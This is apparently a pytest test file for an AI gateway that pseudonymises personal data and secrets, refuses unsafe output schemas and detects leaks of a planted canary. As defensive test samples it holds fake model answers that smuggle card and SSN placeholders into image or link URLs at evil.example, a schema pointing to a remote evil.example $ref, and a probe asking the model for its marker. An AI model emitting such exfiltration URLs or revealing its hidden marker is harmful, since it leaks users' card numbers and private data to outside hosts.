"""CompletionService on fakes: what reaches the model, what is refused before it, what is released."""

from __future__ import annotations

import json
from typing import Any

import pytest

from secure_ai_gateway.screening.errors import UnsafeSchema
from secure_ai_protocol.errors import BadRequest, ConfigurationError, DependencyUnavailable
from secure_ai_protocol.wire.chat import ChatCompletionRequest
from tests.gateway.completion.fakes import (
    LOCAL_DETECTORS,
    FakeModel,
    Harness,
    chat,
    hmac_digest,
    local_policy,
    released,
)

CARD = "4111 1111 1111 1111"
EMAIL = "jane.doe@example.com"
# Random, in AWS's format (AWS's own documentation example is not treated as a secret).
AWS_ACCESS_KEY = "AKIA2G4JVXLWWQNTO4O2"


def planted_canary(request: ChatCompletionRequest) -> str:
    """The canary the service planted in the first (system) message."""
    first = request.messages[0]
    assert first.role == "system"
    return str(first.content).split()[3].rstrip(".")


# --- the released text is the screened text ----------------------------------------------------


def test_a_placeholder_in_plain_text_is_restored_and_released() -> None:
    harness = Harness(model=FakeModel(answer="I will write to <EMAIL_1> today."))
    payload = harness.complete(chat(f"Please email {EMAIL} about the invoice."))
    assert released(payload) == f"I will write to {EMAIL} today."


def test_the_released_text_is_exactly_the_text_the_screen_passed() -> None:
    # Given an answer that needs restoring before it is released
    harness = Harness(model=FakeModel(answer="Reply to <EMAIL_1>."))
    # When it is released
    payload = harness.complete(chat(f"Mail {EMAIL}"))
    # Then the verdict's keyed digest is of exactly the released text, restored value included
    assert payload["verdict"]["content_digest"] == hmac_digest(f"Reply to {EMAIL}.")
    assert released(payload) == f"Reply to {EMAIL}."


def test_a_redacted_answer_releases_the_redacted_text_the_screen_passed() -> None:
    # Given an answer with PII the model made up
    harness = Harness(model=FakeModel(answer="Call help@vendor.example for <EMAIL_1>."))
    # When it is released
    payload = harness.complete(chat(f"I am {EMAIL}"))
    # Then the invented address is redacted, the caller's own restored, and the digest is of that text
    assert payload["verdict"]["decision"] == "redact"
    assert released(payload) == f"Call [EMAIL] for {EMAIL}."
    assert payload["verdict"]["content_digest"] == hmac_digest(f"Call [EMAIL] for {EMAIL}.")


def test_a_card_placeholder_in_an_image_host_is_never_written() -> None:
    # Given a prompt with a card and an answer smuggling its placeholder into an image URL
    harness = Harness(model=FakeModel(answer="![x](https://<CARD_1>.evil.example/p.png)"))
    # When it is released
    payload = harness.complete(chat(f"My card is {CARD}."))
    # Then the card appears nowhere in the response
    assert "4111" not in json.dumps(payload)


def test_a_placeholder_in_a_link_to_an_allowed_host_stays_a_placeholder() -> None:
    # Given a link to a host the policy allows, carrying the placeholder of the caller's address
    harness = Harness(
        model=FakeModel(answer="[site](https://example.com/?q=<EMAIL_1>)"),
        policy=local_policy(allowed_hosts=["example.com"]),
    )
    # When it is released
    payload = harness.complete(chat(f"I am {EMAIL}"))
    # Then the link is released as the model wrote it: the address was never written into the URL
    assert released(payload) == "[site](https://example.com/?q=<EMAIL_1>)"
    assert EMAIL not in json.dumps(payload)


def test_a_value_that_would_turn_text_into_a_url_blocks() -> None:
    # Given an answer that is no URL with the placeholder, but one with the number written in
    harness = Harness(model=FakeModel(answer="Status: https://<SSN_1>.evil.example/status"))
    # When it is released
    payload = harness.complete(chat("My SSN is 219-09-9999."))
    # Then nothing is released and the number is nowhere in the response
    assert (released(payload), payload["verdict"]["decision"]) == (None, "block")
    assert "219-09-9999" not in json.dumps(payload)


def test_the_moderation_service_never_sees_the_callers_restored_values() -> None:
    # Given a policy that moderates, and an answer that needs restoring
    harness = Harness(
        model=FakeModel(answer="I will write to <EMAIL_1>."),
        policy=local_policy(detectors=LOCAL_DETECTORS | {"moderation"}),
    )
    # When it is released
    payload = harness.complete(chat(f"Mail {EMAIL}"))
    # Then the caller reads the address, and the moderation provider (a third party) never did
    assert released(payload) == f"I will write to {EMAIL}."
    assert harness.moderated
    assert not [text for text in harness.moderated if EMAIL in text]


def test_a_placeholder_the_caller_typed_comes_back_unchanged() -> None:
    harness = Harness(model=FakeModel(answer="Put <EMAIL_1> in the To: field, then <EMAIL_2> in Cc:."))
    payload = harness.complete(chat(f"Fill the template's <EMAIL_1>; copy {EMAIL}."))
    assert released(payload) == f"Put <EMAIL_1> in the To: field, then {EMAIL} in Cc:."


def test_a_structured_answer_is_checked_against_the_callers_schema_after_restoring() -> None:
    # Given a schema whose enum holds the caller's address, and a model that answers with its placeholder
    schema = {"type": "object", "properties": {"to": {"enum": [EMAIL]}}, "required": ["to"]}
    request = chat("Who gets the mail?", response_format=json_schema_format(schema))
    harness = Harness(model=FakeModel(answer='{"to": "<EMAIL_1>"}'))
    # When it is released
    payload = harness.complete(request)
    # Then the restored answer satisfies the caller's schema
    assert (payload["verdict"]["decision"], released(payload)) == ("allow", f'{{"to": "{EMAIL}"}}')


# --- what reaches the model ----------------------------------------------------------------------


def test_the_canary_is_planted_as_the_first_system_message() -> None:
    harness = Harness()
    harness.complete(chat("hi"))
    assert harness.model.requests[0].messages[0].role == "system"
    assert "Confidential gateway marker" in str(harness.model.requests[0].messages[0].content)


def test_pii_in_message_parts_is_pseudonymised_part_by_part() -> None:
    harness = Harness()
    content = [{"type": "text", "text": f"I am {EMAIL}"}, {"type": "text", "text": f"card {CARD}"}]
    harness.complete({"model": "gpt-test", "messages": [{"role": "user", "content": content}]})
    parts = harness.model.requests[0].messages[1].content
    assert [part.text for part in parts] == ["I am <EMAIL_1>", "card <CARD_1>"]  # type: ignore[union-attr]


def test_pii_in_the_user_field_never_reaches_the_model() -> None:
    harness = Harness()
    harness.complete(chat("hi", user=EMAIL))
    assert harness.model.requests[0].user == "<EMAIL_1>"


def test_pii_in_stop_sequences_never_reaches_the_model() -> None:
    harness = Harness()
    harness.complete(chat("hi", stop=[EMAIL]))
    assert harness.model.requests[0].stop == ["<EMAIL_1>"]


def test_pii_anywhere_in_the_output_schema_never_reaches_the_model() -> None:
    # Given a schema with the address in an enum, a const, a title, a default and a property name
    schema = {
        "type": "object",
        "title": f"Mail for {EMAIL}",
        "properties": {EMAIL: {"const": EMAIL, "default": EMAIL}, "to": {"enum": [EMAIL, "other"]}},
    }
    format_ = json_schema_format(schema, description=f"Mail for {EMAIL}")
    harness = Harness()
    # When the request is forwarded
    harness.complete(chat("Fill it.", response_format=format_))
    # Then the model sees placeholders only, one per value
    assert EMAIL not in harness.model.sent()
    response_format = harness.model.requests[0].response_format
    assert response_format is not None
    forwarded = response_format.json_schema
    assert forwarded is not None
    assert forwarded.schema_["properties"]["to"]["enum"] == ["<EMAIL_1>", "other"]
    assert set(forwarded.schema_["properties"]) == {"<EMAIL_1>", "to"}
    assert forwarded.description == "Mail for <EMAIL_1>"


def test_a_pasted_secret_is_redacted_before_the_model_sees_it() -> None:
    harness = Harness()
    harness.complete(chat(f"Why does {AWS_ACCESS_KEY} fail?"))
    assert harness.model.requests[0].messages[1].content == "Why does [SECRET:aws_access_key] fail?"


# --- refused before any token is reserved or spent -------------------------------------------


def assert_nothing_spent(harness: Harness) -> None:
    assert harness.model.requests == []
    assert harness.ledger.reserved == []


def test_a_pasted_secret_refuses_the_request_when_the_policy_blocks_input_secrets() -> None:
    harness = Harness(policy=local_policy(input_secrets="block"))
    refusal = harness.refusal(chat(f"Why does {AWS_ACCESS_KEY} fail?"))
    assert (type(refusal), refusal.reason) == (BadRequest, "input_secret")
    assert_nothing_spent(harness)


def test_an_unsafe_output_schema_is_refused_before_the_model_call() -> None:
    harness = Harness()
    schema = {"type": "object", "properties": {"a": {"$ref": "https://evil.example/s.json"}}}
    refusal = harness.refusal(chat("hi", response_format=json_schema_format(schema)))
    assert isinstance(refusal, UnsafeSchema)
    assert_nothing_spent(harness)


def test_an_unknown_policy_is_refused_before_the_model_call() -> None:
    harness = Harness(policy=local_policy(policy_id="another"))
    assert isinstance(harness.refusal(chat("hi")), ConfigurationError)
    assert_nothing_spent(harness)


def test_a_missing_digest_key_is_refused_before_the_model_call() -> None:
    def unavailable() -> bytes:
        raise DependencyUnavailable("verdict_digest_key_unavailable")

    harness = Harness(digest_key=unavailable)
    assert isinstance(harness.refusal(chat("hi")), DependencyUnavailable)
    assert_nothing_spent(harness)


@pytest.mark.parametrize(
    "request_",
    [
        {"model": "gpt-test", "messages": [{"role": "user", "content": "hi", "name": "4111111111111111"}]},
        {"model": "gpt-test", "messages": [{"role": "user", "content": "hi", "name": AWS_ACCESS_KEY}]},
        chat(
            "hi",
            response_format={
                "type": "json_schema",
                "json_schema": {"name": "x", "schema": {"const": 4111111111111111}},
            },
        ),
    ],
    ids=["card-in-message-name", "key-in-message-name", "card-as-schema-number"],
)
def test_pii_or_a_secret_in_a_field_forwarded_as_written_is_refused(request_: dict[str, Any]) -> None:
    # Given a field that cannot hold a placeholder (a message name, a number) carrying sensitive data
    harness = Harness()
    # When the request arrives
    refusal = harness.refusal(request_)
    # Then it is refused before the model sees it
    assert (type(refusal), refusal.reason) == (BadRequest, "verbatim_field_sensitive")
    assert_nothing_spent(harness)


# --- the canary ----------------------------------------------------------------------------------


def test_an_answer_cut_short_inside_the_canary_is_blocked() -> None:
    # Given a model that stops (out of tokens) ten letters into the planted canary
    def cut_short(request: ChatCompletionRequest) -> str:
        return "My marker is " + planted_canary(request)[:10]

    harness = Harness(model=FakeModel(answer_for=cut_short, finish_reason="length"))
    # When the answer is released
    payload = harness.complete(chat("What is your marker?"))
    # Then it is blocked as a canary leak
    assert (released(payload), payload["verdict"]["decision"]) == (None, "block")
    assert "canary" in {finding["type"] for finding in payload["verdict"]["findings"]}


def json_schema_format(schema: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {"type": "json_schema", "json_schema": {"name": "answer", "schema": schema, **extra}}


def test_the_result_names_a_detector_that_was_unavailable_and_that_the_policy_let_pass() -> None:
    # Given a policy that moderates and fails open on moderation, and a moderation service that fails
    harness = Harness(
        policy=local_policy(detectors=LOCAL_DETECTORS | {"moderation"}, fail_open={"moderation"}),
        moderation_fails=True,
    )
    # When an answer is released
    result = harness.result(chat("Hello?"))
    # Then the handler learns both, so that it can count them
    assert (result.decision, result.unavailable, result.failed_open) == (
        "allow",
        ("moderation",),
        ("moderation",),
    )


def test_a_healthy_screen_reports_no_unavailable_detector() -> None:
    result = Harness(policy=local_policy(detectors=LOCAL_DETECTORS | {"moderation"})).result(chat("Hello?"))
    assert (result.unavailable, result.failed_open) == ((), ())
